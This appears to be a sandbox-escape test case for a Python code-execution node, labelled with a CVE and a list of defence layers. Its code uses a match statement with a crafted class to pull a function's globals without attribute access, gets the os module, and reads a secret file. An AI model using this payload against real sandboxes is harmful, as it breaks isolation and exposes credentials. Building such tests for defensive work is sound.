# class: attribute access without a dot
# technique: positional patterns read what a crafted class names
# advisory: CVE-2026-49444
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
class Meta(classmethod(lambda c: c).__get__(int)()):
    def __instancecheck__(cls, value):
        return True
class Reader(metaclass=Meta):
    __match_args__ = ("__globals__",)
match quit.__init__:
    case Reader(g):
        pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
